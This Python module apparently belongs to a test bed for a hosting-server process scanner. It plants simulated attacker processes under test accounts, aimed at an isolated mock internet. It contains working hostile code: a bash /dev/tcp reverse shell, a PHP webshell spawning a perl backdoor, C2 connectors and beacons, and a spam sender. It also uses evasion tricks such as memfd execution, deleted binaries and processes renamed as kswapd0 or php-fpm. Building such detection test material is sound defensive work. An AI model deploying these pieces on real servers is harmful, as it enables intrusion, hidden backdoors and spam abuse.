"""What an attacker leaves on a hosting server, and what customers run on purpose: each one a
real process of an account, started in the bed.

Listeners an outsider could reach (0.0.0.0, [::]) are inert: they accept and close, and never
run anything, because they really listen on every interface of the machine. Outgoing
connections go to the bed's "internet" (a network namespace of its own, 198.18.0.0/15): the
attackers' C2 and IRC servers, which accept and hold them, a beacon's home, and many mail
servers that take a spam sender's short sessions.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import textwrap
import time
from dataclasses import dataclass, field

from .bed import (INTERNET, IRC_HOST, LOCALHOST, MAIL_HOSTS, SMTP_PORT, Bed, cmdline, make_dirs,
                  port_free, wait_for)
from .packages import BedError, Unavailable
from .procfacts import read_processes

# the attackers' servers: (port, what it is)
C2_PORTS = {"reverse_shell": 4443, "irc": 6667, "pool": 3333, "memfd": 7777,
            "nginx_named": 8443, "httpd_child": 8444, "webshell": 5555, "worker_c2": 8088}
BEACON_PORT = 443           # the beacon's home: answers one request per connection, then closes
BEACON_EVERY = 3            # seconds between a beacon's calls
SPAM_PAUSE = 0.2            # seconds between a spam sender's sessions

#: the attacks, in the order ``Planter.attack_plan`` plants them
ATTACK_NAMES = ("reverse_shell", "bind_shell_v4", "bind_shell_v6", "irc_bot", "deleted_miner",
                "renamed_perl", "memfd", "netns_listener", "nginx_named", "httpd_child",
                "webshell_backdoor", "spam_sender", "beacon", "worker_c2")

BIND_SHELL_PORT = 31337
BIND_SHELL_V6_PORT = 31338
RENAMED_PORT = 9100
NETNS_PORT = 4444
NETNS_ACCOUNT = 17

# (name, title, account index, port, program, address)
CUSTOMER_APPS = (("node_shop", "node app on 127.0.0.1:3000", 3, 3000, "node", LOCALHOST),
                 ("python_api", "python http.server on 127.0.0.1:8000", 4, 8000, "python",
                  LOCALHOST),
                 ("node_chat", "node app on [::1]:3001", 5, 3001, "node", "::1"))

# The servers of the bed's internet, one root process inside its namespace: C2 servers that
# hold what connects (IRC greets first), a beacon home that answers and closes, and an SMTP
# sink on every mail host. Each connection is logged ("kind local-address peer"), so the tests
# can count what the bed produced.
INTERNET_SERVERS = textwrap.dedent("""\
    import socket, sys, threading
    held = []
    def log(*words):
        print(*words, flush=True)
    def hold(conn, kind):
        held.append(conn)      # keep it open: the implant stays connected
        if kind == "irc":
            conn.sendall(b":irc.test 001 bot :Welcome\\r\\n")
    def beacon(conn, kind):
        with conn:
            conn.settimeout(10)
            conn.recv(1024)
            conn.sendall(b"HTTP/1.0 200 OK\\r\\n\\r\\nsleep\\n")
    def smtp(conn, kind):
        with conn:
            conn.settimeout(10)
            reader = conn.makefile("rb")
            conn.sendall(b"220 mx.test ESMTP\\r\\n")
            in_data = False
            for line in reader:
                if in_data:
                    if line.rstrip(b"\\r\\n") == b".":
                        in_data = False
                        conn.sendall(b"250 queued\\r\\n")
                    continue
                verb = line[:4].upper()
                if verb == b"DATA":
                    in_data = True
                    conn.sendall(b"354 go on\\r\\n")
                elif verb == b"QUIT":
                    conn.sendall(b"221 bye\\r\\n")
                    break
                else:
                    conn.sendall(b"250 ok\\r\\n")
    def serve(listener, kind):
        while True:
            conn, peer = listener.accept()
            log(kind, conn.getsockname()[0], peer[0])
            handler = {"hold": hold, "irc": hold, "beacon": beacon, "smtp": smtp}[kind]
            threading.Thread(target=handler, args=(conn, kind), daemon=True).start()
    listeners = []
    for host, port, kind in SERVERS:
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((host, port))
        s.listen(64)
        listeners.append((s, kind))
    for s, kind in listeners:
        threading.Thread(target=serve, args=(s, kind), daemon=True).start()
    log("ready")
    threading.Event().wait()
    """)

PERL_CONNECT = textwrap.dedent("""\
    use IO::Socket::INET;
    {rename}
    my $s = IO::Socket::INET->new(PeerAddr => "{host}", PeerPort => {port}, Proto => "tcp")
        or die "connect: $!";
    $s->autoflush(1);
    print $s "{hello}";
    while (1) {{ my $line = <$s>; sleep 1 unless defined $line; }}
    """)

PERL_INERT_LISTENER = textwrap.dedent("""\
    use IO::Socket::IP;
    {rename}
    my $l = IO::Socket::IP->new(LocalHost => "{host}", LocalPort => {port}, Listen => 5,
                                ReuseAddr => 1) or die "listen: $!";
    while (my $c = $l->accept) {{ close $c; }}    # inert: accepts and closes
    """)

PYTHON_INERT_LISTENER = textwrap.dedent("""\
    import socket
    s = socket.socket(socket.AF_INET6)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("::", {port}))
    s.listen(5)
    while True:
        s.accept()[0].close()      # inert: accepts and closes
    """)

WEBSHELL = textwrap.dedent("""\
    <?php
    // a webshell as found in uploads/: starts a backdoor with no shell in between, so the
    // backdoor is the php-fpm worker's own child and inherits its descriptors
    $backdoor = {script};
    $null = ['file', '/dev/null', 'r'];
    $process = proc_open(['/usr/bin/perl', '-e', $backdoor],
                         [0 => $null, 1 => ['file', '/dev/null', 'w'],
                          2 => ['file', '/dev/null', 'w']], $pipes);
    echo $process ? "ok" : "failed";
    """)

# A spam sender: one short SMTP session after another, each to the next of many mail hosts
PERL_SPAM = textwrap.dedent("""\
    use IO::Socket::INET;
    my @hosts = ({hosts});
    while (1) {{
        for my $host (@hosts) {{
            my $s = IO::Socket::INET->new(PeerAddr => $host, PeerPort => {port}, Proto => "tcp",
                                          Timeout => 5) or next;
            <$s>;
            for my $command ("EHLO mail.test", "MAIL FROM:<offers\\@mail.test>",
                             "RCPT TO:<someone\\@$host>", "DATA") {{
                print $s "$command\\r\\n";
                <$s>;
            }}
            print $s "Subject: offer\\r\\n\\r\\nbuy now\\r\\n.\\r\\n";
            <$s>;
            print $s "QUIT\\r\\n";
            <$s>;
            close $s;
            select(undef, undef, undef, {pause});
        }}
    }}
    """)

# A beacon: calls home every few seconds, asks for work, hangs up
PERL_BEACON = textwrap.dedent("""\
    use IO::Socket::INET;
    while (1) {{
        my $s = IO::Socket::INET->new(PeerAddr => "{host}", PeerPort => {port}, Proto => "tcp",
                                      Timeout => 5);
        if ($s) {{
            print $s "GET /tasks HTTP/1.0\\r\\n\\r\\n";
            my @reply = <$s>;
            close $s;
        }}
        sleep {every};
    }}
    """)

# A backdoor that stays inside the PHP worker itself (no child process): it answers the
# request, then keeps its connection home for as long as the worker lives
WORKER_C2 = textwrap.dedent("""\
    <?php
    ignore_user_abort(true);
    set_time_limit(0);
    $s = fsockopen('{host}', {port}, $errno, $errstr, 5);
    if (!$s) {{ echo "failed: $errstr"; exit; }}
    fwrite($s, "hello\\n");
    echo "ok";
    fastcgi_finish_request();
    stream_set_timeout($s, 3600);
    while (!feof($s)) {{ fgets($s); }}
    """)

NODE_APP = textwrap.dedent("""\
    const http = require('http');
    http.createServer((req, res) => res.end('shop of {name}\\n')).listen({port}, '{host}');
    """)


@dataclass
class Planted:
    """One attack or customer app: the processes a scan must report for it."""
    name: str
    title: str
    account: str
    pids: list = field(default_factory=list)
    started_at: float = 0.0        # time.time() when it was planted


def perl_rename(name: str) -> str:
    """Perl's way to change its command line (what ps shows)."""
    return f'$0 = "{name}";' if name else ""


def perl_connect(port: int, hello: str = "", rename: str = "", host: str = INTERNET) -> str:
    return PERL_CONNECT.format(host=host, port=port, hello=hello, rename=perl_rename(rename))


def perl_listener(host: str, port: int, rename: str = "") -> str:
    return PERL_INERT_LISTENER.format(host=host, port=port, rename=perl_rename(rename))


def _pids_with_socket(bed: Bed, uid: int, test) -> list:
    facts = read_processes(bed.bed_pids())
    return sorted(fact.pid for fact in facts.values()
                  if fact.uid == uid and any(test(sock) for sock in fact.sockets))


def _connected_to(port: int, host: str = INTERNET):
    return lambda sock: (sock.state == "ESTABLISHED" and sock.remote_ip == host
                         and sock.remote_port == port)


def _listening_on(port: int):
    return lambda sock: sock.state == "LISTEN" and sock.local_port == port


class Planter:
    def __init__(self, bed: Bed) -> None:
        self.bed = bed
        self.attacks: list[Planted] = []
        self.customer_apps: list[Planted] = []

    def plant_all(self) -> None:
        self.prepare()
        for plant in self.attack_plan():
            self.plant(plant)
        self.plant_customer_apps()

    def prepare(self) -> None:
        """What the attacks need before any is planted: free ports, the internet's servers."""
        self._check_host()
        self._internet_servers()

    def attack_plan(self) -> list:
        """The attacks, each a method that plants it (and waits until it is there)."""
        return [self._reverse_shell, self._bind_shell_v4, self._bind_shell_v6, self._irc_bot,
                self._deleted_miner, self._renamed_perl, self._memfd, self._netns_listener,
                self._nginx_named, self._httpd_parent, self._webshell_backdoor,
                self._spam_sender, self._beacon, self._worker_c2]

    def plant(self, attack) -> Planted:
        began = time.time()
        attack()
        self.attacks[-1].started_at = began
        return self.attacks[-1]

    def plant_customer_apps(self) -> None:
        self._customer_apps()

    def internet_log(self) -> list:
        """(kind, the internet's address connected to, peer) per connection the internet's
        servers accepted so far."""
        started = self.bed.started.get("internet servers")
        if started is None:
            return []
        with open(started.log_path, errors="replace") as handle:
            return [tuple(line.split()) for line in handle if len(line.split()) == 3]

    def _check_host(self) -> None:
        # the internet's own ports are free: its namespace is new
        wanted = [
            ("0.0.0.0", BIND_SHELL_PORT), ("::", BIND_SHELL_V6_PORT), (LOCALHOST, RENAMED_PORT),
            *((host, port) for _n, _t, _i, port, _k, host in CUSTOMER_APPS)]
        busy = [f"{host}:{port}" for host, port in wanted if not port_free(port, host)]
        if busy:
            raise Unavailable(f"ports busy: {busy}")
        account = self.bed.account(NETNS_ACCOUNT)
        probe = subprocess.run(["/usr/bin/setpriv", f"--reuid={account.uid}",
                                f"--regid={account.uid}", "--clear-groups", "--",
                                "/usr/bin/unshare", "-Urn", "/bin/true"], capture_output=True)
        if probe.returncode != 0:
            raise Unavailable("an account cannot make a user namespace here (unshare -Urn: "
                              f"{probe.stderr.decode(errors='replace').strip()})")

    def _await(self, planted: Planted, uid: int, test, started=None) -> Planted:
        """Wait until the process holding the socket ``test`` describes exists; record it."""
        found: list = []

        def ready() -> bool:
            found[:] = _pids_with_socket(self.bed, uid, test)
            return bool(found)
        wait_for(ready, 30, planted.name, started)
        planted.pids = list(found)
        return planted

    def _attack(self, name: str, title: str, index: int, test, argv=None, started=None,
                **spawn) -> Planted:
        account = self.bed.account(index)
        if argv is not None:
            started = self.bed.spawn(f"attack {name}", argv, user=account.name,
                                     cwd=account.home, **spawn)
        planted = self._await(Planted(name, title, account.name), account.uid, test, started)
        self.attacks.append(planted)
        return planted

    def _copy_to_home(self, index: int, source: str, relative: str) -> str:
        account = self.bed.account(index)
        target = os.path.join(account.home, relative)
        make_dirs(os.path.dirname(target), account.uid)
        shutil.copy(source, target)
        os.chown(target, account.uid, account.uid)
        os.chmod(target, 0o755)
        return target

    # ---------------------------------------------------------------- the attackers' side

    def _internet_servers(self) -> None:
        servers = [(INTERNET, port, "hold") for name, port in sorted(C2_PORTS.items())
                   if name != "irc"]
        servers += [(IRC_HOST, C2_PORTS["irc"], "irc"), (INTERNET, BEACON_PORT, "beacon")]
        servers += [(host, SMTP_PORT, "smtp") for host in MAIL_HOSTS]
        code = f"SERVERS = {servers!r}\n" + INTERNET_SERVERS
        server = self.bed.spawn("internet servers", [sys.executable, "-c", code],
                                in_internet=True)
        wait_for(lambda: "ready" in server.log_tail(), 20, "the internet's servers", server)

    # ---------------------------------------------------------------- attacks

    def _reverse_shell(self) -> None:
        port = C2_PORTS["reverse_shell"]
        self._attack("reverse_shell", "reverse shell (bash -i on /dev/tcp)", 10,
                     _connected_to(port),
                     ["/bin/bash", "-c", f"exec /bin/bash -i >& /dev/tcp/{INTERNET}/{port} 0>&1"])

    def _bind_shell_v4(self) -> None:
        self._attack("bind_shell_v4", "bind shell on 0.0.0.0 (perl)", 11,
                     _listening_on(BIND_SHELL_PORT),
                     ["/usr/bin/perl", "-e", perl_listener("0.0.0.0", BIND_SHELL_PORT)])

    def _bind_shell_v6(self) -> None:
        self._attack("bind_shell_v6", "bind shell on [::] (python)", 12,
                     _listening_on(BIND_SHELL_V6_PORT),
                     ["/usr/bin/python3", "-c",
                      PYTHON_INERT_LISTENER.format(port=BIND_SHELL_V6_PORT)])

    def _irc_bot(self) -> None:
        hello = "NICK bot123\\r\\nUSER bot 0 * :bot\\r\\nJOIN #cmd\\r\\n"
        self._attack("irc_bot", "IRC bot (perl, connected)", 13,
                     _connected_to(C2_PORTS["irc"], IRC_HOST),
                     ["/usr/bin/perl", "-e", perl_connect(C2_PORTS["irc"], hello, host=IRC_HOST)])

    def _deleted_miner(self) -> None:
        index = 14
        binary = self._copy_to_home(index, "/usr/bin/perl", ".cache/.x/kswapd0")
        hello = '{\\"method\\":\\"login\\",\\"params\\":{\\"login\\":\\"wallet\\"}}\\n'
        planted = self._attack("deleted_miner", "deleted miner (exe removed, connected)", index,
                               _connected_to(C2_PORTS["pool"]),
                               [binary, "-e", perl_connect(C2_PORTS["pool"], hello)])
        os.unlink(binary)        # the running copy is all that is left
        if not os.readlink(f"/proc/{planted.pids[0]}/exe").endswith(" (deleted)"):
            raise BedError("the miner's executable is not shown as deleted")

    def _renamed_perl(self) -> None:
        self._attack("renamed_perl", "perl renamed 'php-fpm: pool www', listening", 15,
                     _listening_on(RENAMED_PORT),
                     ["/usr/bin/perl", "-e",
                      perl_listener(LOCALHOST, RENAMED_PORT, "php-fpm: pool www")])

    def _memfd(self) -> None:
        # the binary only ever exists in memory: exe is "/memfd:... (deleted)"
        script = perl_connect(C2_PORTS["memfd"])
        loader = textwrap.dedent(f"""\
            import os
            fd = os.memfd_create("x", 0)
            with open("/usr/bin/perl", "rb") as handle:
                os.write(fd, handle.read())
            os.execv(f"/proc/self/fd/{{fd}}", ["[kworker/u8:2]", "-e", {script!r}])
            """)
        self._attack("memfd", "memfd-executed binary, connected", 16,
                     _connected_to(C2_PORTS["memfd"]), ["/usr/bin/python3", "-c", loader])

    def _netns_listener(self) -> None:
        self._attack("netns_listener", "listener in a user+network namespace (unshare -Urn)",
                     NETNS_ACCOUNT, _listening_on(NETNS_PORT),
                     ["/usr/bin/unshare", "-Urn", "/usr/bin/perl", "-e",
                      perl_listener("0.0.0.0", NETNS_PORT)])

    def _nginx_named(self) -> None:
        index = 18
        binary = self._copy_to_home(index, "/usr/bin/perl", ".cache/nginx")
        # its own process group, so it is the group leader a name check would look at
        self._attack("nginx_named", "customer binary ~/.cache/nginx, connected", index,
                     _connected_to(C2_PORTS["nginx_named"]),
                     [binary, "-e", perl_connect(C2_PORTS["nginx_named"],
                                                 rename="nginx: worker process")],
                     new_session=True)

    def _httpd_parent(self) -> None:
        index = 19
        account = self.bed.account(index)
        shell = self._copy_to_home(index, "/bin/dash", "httpd")
        script = os.path.join(account.home, ".cache", "update.pl")
        self.bed.write(script, perl_connect(C2_PORTS["httpd_child"]), owner=account.uid)
        # the shell waits for perl (a command follows it), so perl stays its child
        self._attack("httpd_child", "child of ~/httpd (a copy of dash), connected", index,
                     _connected_to(C2_PORTS["httpd_child"]),
                     [shell, "-c", f"/usr/bin/perl {script}; exit $?"], new_session=True)

    def _webshell_backdoor(self) -> None:
        index = 7
        account = self.bed.account(index)
        relative = "wp-content/uploads/2024/11/cache.php"
        page = WEBSHELL.format(script=php_string(perl_connect(C2_PORTS["webshell"])))
        self.bed.write(os.path.join(account.docroot, relative), page, owner=account.uid)
        answer = self.bed.get(account, "/" + relative)
        if answer.strip() != "ok":
            raise BedError(f"the webshell did not run: {answer[:200]!r}")
        planted = self._attack("webshell_backdoor", "perl backdoor started by a PHP webshell",
                               index, _connected_to(C2_PORTS["webshell"]))
        parent = read_processes(planted.pids)[planted.pids[0]].ppid
        if not cmdline(parent).startswith("php-fpm: pool "):
            raise BedError("the webshell's backdoor is not a child of a php-fpm worker")

    def _short_lived(self, name: str, title: str, index: int, script: str, kind: str) -> None:
        """An attack that is connected only for moments: its process is the one the bed
        started, and it is there once the internet's ``kind`` server has seen it connect."""
        account = self.bed.account(index)
        seen = len([entry for entry in self.internet_log() if entry[0] == kind])
        started = self.bed.spawn(f"attack {name}", ["/usr/bin/perl", "-e", script],
                                 user=account.name, cwd=account.home)
        wait_for(lambda: len([entry for entry in self.internet_log() if entry[0] == kind]) > seen,
                 30, name, started)
        self.attacks.append(Planted(name, title, account.name, [started.pid]))

    def _spam_sender(self) -> None:
        hosts = ", ".join(f'"{host}"' for host in MAIL_HOSTS)
        self._short_lived("spam_sender", f"spam sender (perl, short SMTP sessions to "
                          f"{len(MAIL_HOSTS)} hosts)", 8,
                          PERL_SPAM.format(hosts=hosts, port=SMTP_PORT, pause=SPAM_PAUSE),
                          "smtp")

    def _beacon(self) -> None:
        self._short_lived("beacon", f"beacon (perl, calls home every {BEACON_EVERY} s, "
                          "hangs up at once)", 9,
                          PERL_BEACON.format(host=INTERNET, port=BEACON_PORT,
                                             every=BEACON_EVERY), "beacon")

    def _worker_c2(self) -> None:
        index = 12
        account = self.bed.account(index)
        relative = "wp-content/plugins/hello-dolly/cron.php"
        page = WORKER_C2.format(host=INTERNET, port=C2_PORTS["worker_c2"])
        self.bed.write(os.path.join(account.docroot, relative), page, owner=account.uid)
        answer = self.bed.get(account, "/" + relative)
        if answer.strip() != "ok":
            raise BedError(f"the worker's backdoor did not run: {answer[:200]!r}")
        planted = self._attack("worker_c2", "php-fpm worker holding a C2 connection itself",
                               index, _connected_to(C2_PORTS["worker_c2"]))
        if not cmdline(planted.pids[0]).startswith("php-fpm: pool "):
            raise BedError("the C2 connection is not held by a php-fpm worker")

    # ---------------------------------------------------------------- customer apps

    def _customer_apps(self) -> None:
        for name, title, index, port, kind, host in CUSTOMER_APPS:
            account = self.bed.account(index)
            if kind == "node" and os.path.exists("/usr/bin/node"):
                source = self.bed.write(os.path.join(account.home, "app", "server.js"),
                                        NODE_APP.format(name=account.name, port=port, host=host),
                                        owner=account.uid)
                argv = ["/usr/bin/node", source]
            else:
                argv = ["/usr/bin/python3", "-m", "http.server", str(port), "--bind", host]
            started = self.bed.spawn(f"app {name}", argv, user=account.name, cwd=account.home)
            planted = self._await(Planted(name, title, account.name), account.uid,
                                  _listening_on(port), started)
            self.customer_apps.append(planted)


def php_string(text: str) -> str:
    """``text`` as a single-quoted PHP literal."""
    return "'" + text.replace("\\", "\\\\").replace("'", "\\'") + "'"


def settle(seconds: float) -> None:
    """Let every process get older than PT_LIMIT."""
    time.sleep(seconds)
